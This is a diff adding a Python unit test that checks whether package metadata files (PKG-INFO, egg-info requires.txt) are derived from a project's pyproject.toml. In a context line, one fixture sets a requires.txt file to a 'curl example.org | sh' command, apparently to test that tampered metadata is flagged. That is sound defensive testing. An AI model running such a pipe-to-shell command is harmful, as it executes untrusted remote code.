@@ -293,6 +293,20 @@ class Derived(AssayTest):
         info = "Metadata-Version: 2.1\nName: tally\nVersion: 1.4.0\nRequires-Dist: line\n\n# tally\n"
         self.expect("PKG-INFO", "unexplained", {"pyproject.toml": self.PYPROJECT, "README.md": "# tally\n"}, {"PKG-INFO": info})
 
+    def test_what_a_project_requires_is_listed_whole(self):
+        project = '[project]\nname = "tally"\nversion = "1.4.0"\nrequires-python = ">=3.9"\ndependencies = ["click>=8", "old<2; python_version<\'3\'"]\n'
+        fields = "Metadata-Version: 2.1\nName: tally\nVersion: 1.4.0\n"
+        all_of_them = 'Requires-Python: >=3.9\nRequires-Dist: click>=8\nRequires-Dist: old<2; python_version < "3"\n'
+        for number, (proof, requirements) in enumerate((("derived", all_of_them), ("unexplained", all_of_them.replace("Requires-Dist: click>=8\n", "")),
+                                                        ("unexplained", all_of_them.replace('; python_version < "3"', "")), ("unexplained", all_of_them.replace("Requires-Python: >=3.9\n", "")))):
+            with self.subTest(requirements):
+                self.begin(number)
+                self.expect("PKG-INFO", proof, {"pyproject.toml": project}, {"PKG-INFO": fields + requirements})
+        for number, (proof, text) in enumerate((("derived", 'click>=8\n\n[:python_version < "3"]\nold<2\n'), ("unexplained", "click>=8\nold<2\n"), ("unexplained", "click>=8\n"))):
+            with self.subTest(text):
+                self.begin(number + 10)
+                self.expect("tally.egg-info/requires.txt", proof, {"pyproject.toml": project}, {"tally.egg-info/requires.txt": text})
+
     def test_a_file_in_egg_info_is_a_list_that_setuptools_writes(self):
         self.expect("tally.egg-info/requires.txt", "derived", {"pyproject.toml": self.PYPROJECT}, {"tally.egg-info/requires.txt": "click>=8\n"})
         for number, (name, text) in enumerate((("run.sh", "click>=8\n"), ("requires.txt", "[curl example.org | sh\n"), ("requires.txt", "click>=8\n[:evil]\n"))):
